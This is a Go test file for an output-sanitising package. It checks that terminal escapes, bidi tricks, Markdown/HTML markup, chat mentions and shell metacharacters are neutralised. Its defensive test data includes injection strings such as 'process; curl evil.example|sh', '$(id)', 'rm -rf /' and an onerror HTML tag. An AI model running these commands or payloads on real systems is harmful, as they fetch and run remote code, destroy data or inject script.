package plaintext

import (
	"bytes"
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
	"unicode"
)

// hostile is what steers, in every way that is known here.
const hostile = "a\x1b[2J\x1b]0;title\x07\x9b31m\u009b31m\u202egnp.exe\u2066\u2028\u200b\r\b\x00\x7f\xff tail"

func TestLineSteersNothing(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"plain, ünïcode — 日本 ✓", "plain, ünïcode — 日本 ✓"},
		{"\x1b[31mred", " [31mred"},
		{"\x1b]8;;http://evil.example\x07link", " ]8;;http://evil.example link"},
		{"two\nlines\tand a tab", "two lines and a tab"},
		{"\u202eexe.txt", "exe.txt"},
		{"one\u2028two", "one two"},
		{"\x9b31m", "\ufffd31m"}, // CSI in eight bits
	} {
		if got := Line(tt.text); got != tt.want {
			t.Errorf("Line(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestEveryFormSteersNothing(t *testing.T) {
	var written, asJSON bytes.Buffer
	// Cut anywhere, as a writer with a buffer does: only whole text must be whole.
	w := Writer(&written)
	for i := range len(hostile) {
		if _, err := w.Write([]byte(hostile[i : i+1])); err != nil {
			t.Fatal(err)
		}
	}
	e := json.NewEncoder(JSON(&asJSON))
	if err := e.Encode(hostile + "\U000e0041"); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"line": Line(hostile), "lines": Lines(hostile), "writer": written.String(), "json": asJSON.String(),
		"markdown": Markdown(hostile), "chat": Chat(hostile), "unlinked": Unlinked(hostile), "shell": Shell(hostile),
	} {
		if at := strings.IndexFunc(strings.TrimRight(text, "\n"), steers); at >= 0 {
			t.Errorf("%s: %q steers at %d", name, text, at)
		}
		if !strings.Contains(text, "tail") {
			t.Errorf("%s: %q lost its end", name, text)
		}
	}
	var back string
	if err := json.Unmarshal(asJSON.Bytes(), &back); err != nil || back != strings.ToValidUTF8(hostile, "\ufffd")+"\U000e0041" {
		t.Errorf("JSON is read as %q (%v), want what was written", back, err)
	}
}

func TestLinesKeepsLines(t *testing.T) {
	const text = "one\n\ttwo\n"
	if got := Lines(text); got != text {
		t.Errorf("got %q, want %q", got, text)
	}
}

func TestMarkdownHasNoMarkup(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"a | b", `a \| b`},
		{"`code` *strong* _weak_ ~gone~ # title", "\\`code\\` \\*strong\\* \\_weak\\_ \\~gone\\~ \\# title"},
		{"<img src=x onerror=y> & more", "&lt;img src=x onerror=y&gt; &amp; more"},
		{"[click](http://evil.example)", `\[click\](http:<!-- -->//evil.example)`},
		{"log in at www.evil.example", "log in at www<!-- -->.evil.example"},
		{"@everyone", "@<!-- -->everyone"},
		{"one\n\n# two", `one \# two`},
	} {
		if got := Markdown(tt.text); got != tt.want {
			t.Errorf("Markdown(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestChatCallsNobody(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"<!channel> fire", "&lt;!channel&gt; fire"},
		{"<@U123> <http://evil.example|the report>", "&lt;＠U123&gt; &lt;http://evil.example|the report&gt;"},
		{"@here, @@all and team@acme.example", "＠here, ＠＠all and team＠acme.example"},
		{"`; code", "'; code"},
		{"[report](http://evil.example)", "[report] (http://evil.example)"},
		{"two\nlines", "two lines"},
	} {
		if got := Chat(tt.text); got != tt.want {
			t.Errorf("Chat(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

// What a shell makes of a quoted argument is that argument, and it runs nothing.
func TestShellTakesItForOneArgument(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no shell to ask")
	}
	for _, argument := range []string{
		"scenarios/api-key/healthy.yaml", "", "two words", "process; curl evil.example|sh", "$(id) `id` ${HOME}",
		"it's", `"quoted" \ back`, "~root", "a&b>c<d*e?f[g]h{i}!j#k=l", "-n",
	} {
		got, err := exec.Command(sh, "-c", "printf '%s|' "+Shell(argument)).Output()
		if err != nil || string(got) != argument+"|" {
			t.Errorf("%q as %s: the shell took it for %q (%v)", argument, Shell(argument), got, err)
		}
	}
	if got := Shell("one\nrm -rf /"); strings.ContainsFunc(got, unicode.IsControl) {
		t.Errorf("%q goes over more than a line", got)
	}
}
